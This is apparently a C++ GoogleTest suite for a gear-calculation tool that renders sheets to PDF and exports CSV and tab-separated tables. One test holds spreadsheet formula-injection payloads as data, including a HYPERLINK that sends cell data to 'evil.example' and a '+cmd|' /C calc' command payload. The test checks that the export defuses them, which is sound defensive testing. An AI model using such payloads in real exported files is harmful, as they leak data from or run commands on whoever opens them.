// The printed calculation sheet as a user gets it: the batch tool's result
// piped into lingchuan-report, the PDF read back with pdftotext.
#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <algorithm>
#include <cctype>
#include <sstream>
#include <string>
#include <tuple>
#include <utility>
#include <vector>

#include <nlohmann/json.hpp>

#include "core/chain_state.h"
#include "core/items.h"
#include "core/jobfile.h"
#include "core/sheet_table.h"
#include "worked_job.h"

namespace {

using Json = nlohmann::ordered_json;

struct ToolRun {
    int status = -1;
    std::string out, err;
};

// `input` on standard input, or with `from`, the file of that name; in the
// folder `in` when given.
ToolRun run(const QString& program, const QStringList& args, const std::string& input = {}, const QString& from = {},
            const QString& in = {}) {
    QProcess p;
    if (!from.isEmpty()) p.setStandardInputFile(from);
    p.setWorkingDirectory(in);
    p.start(program, args);
    if (!p.waitForStarted()) return {};
    p.write(input.data(), static_cast<qint64>(input.size()));
    p.closeWriteChannel();
    p.waitForFinished(120000);
    ToolRun r;
    r.status = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
    r.out = p.readAllStandardOutput().toStdString();
    r.err = p.readAllStandardError().toStdString();
    return r;
}

// Blanks and line breaks out, so that a text broken over lines is found whole.
std::string squeeze(std::string s) {
    s.erase(std::remove_if(s.begin(), s.end(), [](unsigned char c) { return std::isspace(c); }), s.end());
    return s;
}

// The text of each page of the PDF, squeezed, or as laid out (-layout: a
// table row on a line of its own, its cells left to right).
std::vector<std::string> pages(const QString& pdf, bool layout = false) {
    const ToolRun r = run("pdftotext", layout ? QStringList{"-layout", "-enc", "UTF-8", pdf, "-"}
                                              : QStringList{"-enc", "UTF-8", pdf, "-"});
    EXPECT_EQ(r.status, 0) << r.err;
    std::vector<std::string> out;
    std::size_t start = 0;
    for (std::size_t ff; (ff = r.out.find('\f', start)) != std::string::npos; start = ff + 1)
        out.push_back(layout ? r.out.substr(start, ff - start) : squeeze(r.out.substr(start, ff - start)));
    return out;
}

// Checks that the laid-out page has the row of `row`: its caption (however
// pdftotext spaces it), then its kind, its pinion text, its gear text and its
// unit, word by word, in that order.
void expectRowOnPage(const std::string& page, const lc::TableRow& row) {
    std::vector<std::string> want{row.uncomputed ? "（本项不计算）" : row.input ? "输入" : "计算"};
    for (const std::string& t : {row.first, row.second, std::string(lc::unitText(row.unit))})
        if (!t.empty()) want.push_back(t);
    std::istringstream lines(page);
    for (std::string line; std::getline(lines, line);) {
        std::istringstream words(line);
        std::string caption, word;
        while (caption.size() < squeeze(row.caption).size() && words >> word) caption += word;
        std::vector<std::string> rest;
        while (words >> word) rest.push_back(word);
        if (caption != squeeze(row.caption) || rest.empty() || rest[0] != want[0]) continue;
        EXPECT_EQ(rest, want) << row.caption;
        return;
    }
    ADD_FAILURE() << "no row " << row.caption;
}

const QString kReport = QStringLiteral(LC_REPORT_EXE);

TEST(PrintedSheet, WorkedExampleGivesOnePagePerSheetWithEveryTextWhole) {
    // Texts nobody calculates: a long exponent text, and a tolerance typed
    // after the search that needs dozens of lines.
    std::vector<std::string> actions = example::workedActions();
    std::string wide;
    for (int i = 100; i < 210; ++i) wide += "-1.23456789012345E-" + std::to_string(i) + (i % 3 ? "" : " ");
    actions.push_back("C.Text51=1.23456789012345E-100");
    actions.push_back("gears.Text2=" + wide);
    const ToolRun calc = run(LC_CALC_EXE, {"run"}, Json{{"actions", actions}}.dump());
    ASSERT_EQ(calc.status, 0) << calc.err;

    QTemporaryDir dir;
    const QString pdf = dir.filePath("out.pdf");
    const ToolRun report = run(kReport, {"-", "-o", pdf}, calc.out);
    ASSERT_EQ(report.status, 0) << report.err;

    const std::vector<std::string> text = pages(pdf);
    ASSERT_EQ(text.size(), 4u);
    const Json result = Json::parse(calc.out);
    const std::pair<const char*, const char*> sheets[] = {
        {"A2", "翎川齿轮计算单A2"}, {"B1", "翎川齿轮计算单B1"}, {"C", "翎川齿轮计算单C"}, {"gears", "翎川挂轮计算单"}};
    for (std::size_t i = 0; i < 4; ++i) {
        const auto& [key, title] = sheets[i];
        const std::string& page = text[i];
        EXPECT_NE(page.find(title), std::string::npos) << key;
        for (const auto& [field, value] : result["sheets"][key].items()) {
            std::vector<std::string> texts;
            if (field.rfind("Text", 0) == 0) texts.push_back(value.get<std::string>());
            if (field == "List1") texts = value.get<std::vector<std::string>>();
            for (const std::string& t : texts)
                EXPECT_NE(page.find(squeeze(t)), std::string::npos) << key << "." << field << " \"" << t << "\"";
        }
    }
    // Each short text in its own item's row and column (long ones wrap).
    const std::vector<std::string> laidOut = pages(pdf, true);
    ASSERT_EQ(laidOut.size(), 4u);
    lc::Workbook wb = lc::readDocument(calc.out).workbook;
    for (std::size_t i = 0; i < 4; ++i)
        for (const lc::TableRow& row : lc::tableOf(wb.sheet(*lc::sheetFromKey(sheets[i].first))))
            if (!row.caption.empty() && row.first.size() < 40) expectRowOnPage(laidOut[i], row);
    // Sheet C's rows that no step computes say so; Gr, typed, is 输入.
    const QString c = QString::fromStdString(laidOut[2]);
    for (const char* item : {"18", "19", "20", "21", "22", "31 △αtM", "32 JM1(<>)", "33 JM2(<>)", "39", "40"})
        EXPECT_TRUE(c.contains(QRegularExpression("\\n" + QRegularExpression::escape(item) + " +（本项不计算） *\\n"))) << item;
    EXPECT_TRUE(c.contains(QRegularExpression("\\n13 Gr +输入 +20 *\\n")));
    // The worked example's own values, as its sheet shows them.
    EXPECT_NE(text[0].find("76.2930389959203"), std::string::npos);
    EXPECT_NE(text[3].find(squeeze(wide)), std::string::npos);
    EXPECT_NE(text[3].find("24X24/24X48=0.5"), std::string::npos);

    // Every font is embedded: the "emb" column of each font's line says yes.
    const ToolRun fonts = run("pdffonts", {pdf});
    ASSERT_EQ(fonts.status, 0);
    std::istringstream table(fonts.out.substr(fonts.out.find("\n---") + 1));
    std::string line;
    std::getline(table, line);
    std::size_t fontLines = 0;
    while (std::getline(table, line)) {
        ++fontLines;
        EXPECT_NE(line.find(" yes "), std::string::npos) << line;
    }
    EXPECT_GT(fontLines, 0u);
}

TEST(PrintedSheet, LongChangeGearListRunsOnOverMorePages) {
    Json list = Json::array();
    for (int i = 100; i < 700; ++i) list.push_back(std::to_string(i) + "X31/47X53=0.55555555555555" + std::to_string(i % 10));
    QTemporaryDir dir;
    const QString job = dir.filePath("gears.json");
    QFile f(job);
    ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    f.write(QByteArray::fromStdString(Json{{"sheets", {{"gears", {{"Text1", "0.5"}, {"List1", list}}}}}}.dump()));
    f.close();
    const QString pdf = dir.filePath("gears.pdf");
    const ToolRun report = run(kReport, {job, "-o", pdf});
    ASSERT_EQ(report.status, 0) << report.err;
    const std::vector<std::string> text = pages(pdf);
    ASSERT_GT(text.size(), 2u);
    std::string all;
    for (const std::string& page : text) {
        EXPECT_NE(page.find("翎川挂轮计算单"), std::string::npos);
        all += page;
    }
    for (const auto& line : list) EXPECT_NE(all.find(line.get<std::string>()), std::string::npos) << line;
}

TEST(PrintedSheet, BadJobFileIsOneLineAndExit2WithoutPdf) {
    QTemporaryDir dir;
    const QString pdf = dir.filePath("bad.pdf");
    const std::pair<const char*, std::string> cases[] = {
        {"not JSON", "{\"sheets\": "},
        {"another format", R"({"format": "spreadsheet", "sheets": {}})"},
        {"text as a number", R"({"sheets": {"A2": {"Text1": 10}}})"},
        {"no such field", R"({"sheets": {"A2": {"Text99": "1"}}})"},
    };
    for (const auto& [what, bytes] : cases) {
        const ToolRun r = run(kReport, {"-", "-o", pdf}, bytes);
        EXPECT_EQ(r.status, 2) << what;
        EXPECT_EQ(r.err.rfind("lingchuan-report: ", 0), 0u) << what << ": " << r.err;
        EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << what << ": " << r.err;
        EXPECT_NE(r.err.find("：位置："), std::string::npos) << "in the program's words: " << r.err;
        EXPECT_FALSE(QFile::exists(pdf)) << what;
    }
    const ToolRun missing = run(kReport, {dir.filePath("missing.json"), "-o", pdf});
    EXPECT_EQ(missing.status, 2);
    EXPECT_EQ(std::count(missing.err.begin(), missing.err.end(), '\n'), 1) << missing.err;
}

// A sheet whose results are not those of its inputs says why in the notice at
// the top of its page and above its sketch, and its copied table starts with
// the same lines; however it came to be so, also in a job file read afresh.
// A sheet never calculated says so on its page; its sketch has nothing to warn of.
TEST(PrintedSheet, StaleResultsAreMarkedOnThePageTheSketchAndTheCopiedTable) {
    std::vector<std::string> typed{"A1", std::string("A2.Text17=") + example::kA2CutterRadius};
    for (const auto& [field, text] : example::a2Inputs()) typed.push_back("A2." + field + "=" + text);
    // Actions after the typing, a result changed in the file, the notice's
    // line, how often the page shows it and whether the sketch warns too (the
    // sketch of a sheet never calculated says so in the drawing's place).
    const std::tuple<std::vector<std::string>, const char*, std::string, int, bool> cases[] = {
        {{"A2.Command1"}, nullptr, "", 0, false},
        {{"A2.Command1", "A2.Text1=20"}, nullptr, "计算单A2的结果不是按当前输入算出的", 1, true},
        {{"A2.Command1", "A2.Text1=20", "A2.Command1"}, nullptr, "", 0, false},
        {{"A2.Command1"}, "22", "重新计算会改变：第40项小轮", 1, true},
        {{"A2.Text17=", "A2.Command1"}, nullptr, "计算单A2按当前输入计算会停止（请输入刀盘半径 ！）", 1, true},
        {{}, nullptr, "计算单A2尚未计算", 2, false},
    };
    QTemporaryDir dir;
    for (const auto& [after, tampered, notice, shown, sketch] : cases) {
        SCOPED_TRACE(testing::PrintToString(after) + (tampered ? " tampered" : ""));
        lc::Workbook wb;
        for (const auto* actions : {&std::as_const(typed), &after}) example::perform(wb, *actions);
        Json doc = lc::documentJson(wb);
        if (tampered) doc["sheets"]["A2"]["Text40(0)"] = tampered;
        const std::string bytes = lc::writeDocument(doc);
        const std::string table = lc::tabSeparated(lc::readDocument(bytes).workbook, lc::SheetId::A2);
        EXPECT_EQ(table.rfind("注意：", 0) == 0, !notice.empty()) << table.substr(0, 80);
        EXPECT_NE(squeeze(table.substr(0, table.find('\n'))).find(squeeze(notice)), std::string::npos);
        ASSERT_EQ(run(kReport, {"-", "-o", dir.filePath("a2.pdf")}, bytes).status, 0);
        const QString page = QString::fromStdString(pages(dir.filePath("a2.pdf")).at(0));
        EXPECT_EQ(notice.empty() ? 0 : page.count(QString::fromStdString(squeeze(notice))), shown);
        EXPECT_EQ(page.count("注意"), notice.empty() ? 0 : 1 + sketch);
    }
}

// The road of a changed module: A2 recalculated with m 2.5, B1 recalculated,
// C left. lingchuan-calc check names every copied item that differs; the
// printed sheet C carries the notice with those items, the current A2 none.
TEST(PrintedSheet, ChainNoticeOnThePageAndFromCheck) {
    std::vector<std::string> road = example::workedActions();
    const ToolRun worked = run(LC_CALC_EXE, {"check"}, Json{{"actions", road}}.dump());
    EXPECT_TRUE(worked.status == 0 && worked.out == "A2: current\nB1: current\nC: current\ngears: current\n") << worked.out;
    for (const char* s : {"A2.Text3=2.5", "A2.Command1", "A2.Command2", "B1.Command1", "B1.Command3"}) road.push_back(s);
    const ToolRun job = run(LC_CALC_EXE, {"run"}, Json{{"actions", road}}.dump());
    const ToolRun check = run(LC_CALC_EXE, {"check"}, job.out);
    EXPECT_EQ(check.status, 1);
    for (const char* line :
         {"A2: current\n", "B1: copied inputs differ from A2: item 2 (Text2) differs from A2 item 26 (Text26) \"9.95004888993152\", "
                          "item 3 (Text3) differs from A2 item 21 (Text21) \"1.111092\"\n",
          "C: copied inputs differ from A2: m (Text45) differs from A2 item 3 (Text3) \"2.5\", L (Text47) differs",
          "b (Text48) differs from A2 item 15 (Text15)", "h (Text50) differs from A2 item 31 (Text31)",
          "C: copied inputs differ from B1: △X1 (Text56) differs from B1 item 53 (Text15)",
          "C: reads B1, which is not current\n", "gears: current\n"})
        EXPECT_NE(check.out.find(line), std::string::npos) << line << " in\n" << check.out;
    QTemporaryDir dir;
    ASSERT_EQ(run(kReport, {"-", "-o", dir.filePath("c.pdf")}, job.out).status, 0);
    const std::vector<std::string> text = pages(dir.filePath("c.pdf"), true);
    // Sheet C's notice pushes its last rows onto a page of their own.
    ASSERT_EQ(text.size(), 5u);
    EXPECT_EQ(text[0].find("注意"), std::string::npos);
    EXPECT_EQ(text[4].find("注意"), std::string::npos);
    const std::string c = squeeze(text[2]);
    EXPECT_LT(c.find("注意"), c.find("项目")) << "above the table";
    for (const char* item : {"m（A2第3项现为“2.5”）", "L（A2第16项", "b（A2第15项", "h（A2第31项", "△X1（B1第53项",
                             "计算单C所用的计算单B1本身不是最新的"})
        EXPECT_NE(c.find(item), std::string::npos) << item;
}

// The kind column of an item beside a check box follows the box: computed
// while it is clear, typed while it is ticked. Sheet B1's box, which nothing
// reads, is no row of its page.
TEST(PrintedSheet, KindOfAnItemBesideACheckBoxFollowsTheBox) {
    QTemporaryDir dir;
    const QString pdf = dir.filePath("kind.pdf");
    for (const bool ticked : {false, true}) {
        lc::Workbook wb;
        example::perform(wb, example::workedActions());
        wb.sheet(lc::SheetId::A2).setCheck("Check1", ticked ? 1 : 0);
        ASSERT_EQ(run(kReport, {"-", "-o", pdf}, lc::writeDocument(wb)).status, 0);
        // Laid out as printed, so that a row reads along its line.
        const std::string rows = squeeze(run("pdftotext", {"-layout", "-enc", "UTF-8", pdf, "-"}).out);
        EXPECT_NE(rows.find(std::string("15齿宽b") + (ticked ? "输入" : "计算") + "10.5504739230046"), std::string::npos);
        EXPECT_EQ(rows.find("无作用"), std::string::npos);
    }
}

}  // namespace

// What is not a regular file is refused at once (a device never ends); the
// output is never the job itself, also when the job comes on standard input
// from that file; a folder is no output; a device is written to and not
// replaced, "-" is standard output; a job with actions is refused as the
// program refuses it; "--" ends the options; a path in a message cannot break
// the line or colour the terminal.
TEST(PrintedSheet, PathsAndJobsTheToolMustNotTake) {
    QTemporaryDir dir;
    const QString job = dir.filePath("j.json"), pdf = dir.filePath("a.pdf"), fifo = dir.filePath("fifo");
    const std::string sheet = R"({"sheets": {"A2": {"Text1": "10"}}})";
    for (const QString& name : {job, dir.filePath("-x.json")}) {
        QFile f(name);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly) && f.write(sheet.data()) > 0 && f.flush());
    }
    ASSERT_EQ(run("mkfifo", {fifo}).status, 0);
    for (const auto& [args, input, status, err] : std::vector<std::tuple<QStringList, std::string, int, std::string>>{
             {{"/dev/zero", "-o", pdf}, "", 2, "：不是普通文件\n"},
             {{fifo, "-o", pdf}, "", 2, "：不是普通文件\n"},
             {{dir.filePath("none.json"), "-o", pdf}, "", 2, "none.json：文件不存在\n"},
             {{job, "-o", dir.path() + "/../" + QDir(dir.path()).dirName() + "/j.json"}, "", 2, "：输出文件就是计算文件本身\n"},
             {{"-", "-o", job}, "<", 2, "j.json：输出文件就是计算文件本身\n"},
             {{job, "-o", dir.path()}, "", 1, "：无法写出PDF：这是一个文件夹，不是文件。\n"},
             {{job, "-o", dir.filePath("a\nb\x1b[31m\u202e/x.pdf")}, "", 1, "/a\\x0Ab\\x1B[31m\\u202E/x.pdf：无法写出PDF：文件夹不存在。\n"},
             {{"-", "-o", pdf}, R"({"sheets": {"A2": {}}, "actions": ["A1"]})", 2, "请先用 lingchuan-calc run 执行\n"},
             {{"-x.json", "-o", pdf}, "", 2, "多余的参数“-x.json”（见 --help）\n"},
             {{"-o", "-", "--", "-x.json"}, "", 0, ""},
             {{job, "-o", "/dev/null"}, "", 0, ""},
             {{job, "-o", "-"}, "", 0, ""}}) {
        const ToolRun r = run(kReport, args, input, input == "<" ? job : QString(), dir.path());
        EXPECT_TRUE(r.status == status && r.err.ends_with(err) && std::count(r.err.begin(), r.err.end(), '\n') == !err.empty())
            << args.join(' ').toStdString() << ": " << r.err;
        EXPECT_EQ(r.out.rfind("%PDF-", 0) == 0, args.at(args.indexOf("-o") + 1) == "-");
    }
    EXPECT_EQ(QFileInfo(job).size(), static_cast<qint64>(sheet.size())) << "the job is intact";
    EXPECT_FALSE(QFile::exists(pdf) || QFileInfo("/dev/null").isFile()) << "no PDF, and the device still a device";
}

// Cells are data: read back by Python's csv module, as a spreadsheet reads
// them, a formula-like text stands after an apostrophe and a number as it is,
// in the CSV file and in the copied (tab-separated) table alike.
TEST(CopiedTable, FormulaLikeTextsBecomeTextCells) {
    const std::pair<std::string, std::string> cells[] = {
        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"10\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"10\")"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"-1+1", "'-1+1"},
        {"\t=1", "'\t=1"},
        {"\r=1", "'\r=1"},
        {"-0.5", "-0.5"},
        {"-2", "-2"},
        {"1e5", "1e5"},
        {"+1.5E-3", "+1.5E-3"},
        {"齿数", "齿数"},
    };
    lc::Workbook wb;
    lc::Sheet& a2 = wb.sheet(lc::SheetId::A2);
    for (std::size_t i = 0; i < std::size(cells); ++i) a2.setText("Text" + std::to_string(i + 1), cells[i].first);
    QTemporaryDir dir;
    for (const auto& [separator, bytes] : {std::pair{",", lc::commaSeparated(wb, lc::SheetId::A2)},
                                           std::pair{"\t", lc::tabSeparated(wb, lc::SheetId::A2)}}) {
        QFile f(dir.filePath("t"));
        ASSERT_TRUE(f.open(QIODevice::WriteOnly) && f.write(bytes.data(), static_cast<qint64>(bytes.size())) > 0);
        f.close();
        const ToolRun py = run("python3", {"-c", "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
                                                 "newline='', encoding='utf-8-sig'), delimiter=sys.argv[2]))))",
                                           f.fileName(), separator});
        ASSERT_EQ(py.status, 0) << py.err;
        const Json rows = Json::parse(py.out);
        for (std::size_t i = 0; i < std::size(cells); ++i) {
            const auto row = std::find_if(rows.begin(), rows.end(), [&](const Json& r) { return r[0] == std::to_string(i + 1); });
            ASSERT_NE(row, rows.end()) << i;
            EXPECT_EQ((*row)[3], cells[i].second) << separator << " " << cells[i].first;
        }
    }
}

// The example job as shipped: lingchuan-calc takes it as it stands (every
// sheet current, the properties kept), and every page of its PDF ends in the
// title block: the properties, the sheet, page i of n.
TEST(PrintedSheet, ExampleJobCarriesItsTitleBlockOnEveryPage) {
    QFile file(LC_EXAMPLE_JOB);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    const std::string job = file.readAll().toStdString();
    const lc::Workbook wb = lc::readJobFile(job).workbook;
    EXPECT_TRUE(lc::chainState(wb).allCurrent());
    const ToolRun calc = run(LC_CALC_EXE, {"run"}, job);
    EXPECT_EQ(calc.out, job.substr(0, job.size() - 3) + ",\n  \"log\": []\n}\n");

    QTemporaryDir dir;
    const QString pdf = dir.filePath("example.pdf");
    ASSERT_EQ(run(kReport, {LC_EXAMPLE_JOB, "-o", pdf}).status, 0);
    const std::vector<std::string> laidOut = pages(pdf, true);
    ASSERT_EQ(laidOut.size(), 3u);
    for (std::size_t i = 0; i < laidOut.size(); ++i) {
        const std::string page = squeeze(laidOut[i]);
        std::vector<std::string> wanted{"第" + std::to_string(i + 1) + "页共3页", "图号（小轮）", "图号（大轮）", "名称", "设计", "审核"};
        for (lc::Property p : {lc::Property::PinionDrawing, lc::Property::GearDrawing, lc::Property::Name,
                               lc::Property::Designer, lc::Property::Checker})
            wanted.push_back(squeeze(wb.properties[p]));
        for (const std::string& w : wanted) EXPECT_NE(page.find(w), std::string::npos) << "page " << i + 1 << ": " << w;
    }
}
